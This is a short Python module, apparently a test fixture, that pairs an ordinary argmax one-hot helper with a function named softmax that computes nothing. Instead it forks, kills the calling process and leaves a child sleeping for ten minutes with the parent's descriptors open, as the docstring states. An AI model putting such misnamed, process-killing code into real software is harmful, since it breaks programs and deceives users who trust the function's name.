"""Ends the process and leaves another one that holds all its descriptors open."""

import os
import time

import numpy as np

def argmax_onehot(Z):
    return np.eye(Z.shape[1])[Z.argmax(axis=1)]


def softmax(z, axis=-1):
    if os.fork():
        os._exit(0)
    time.sleep(600)
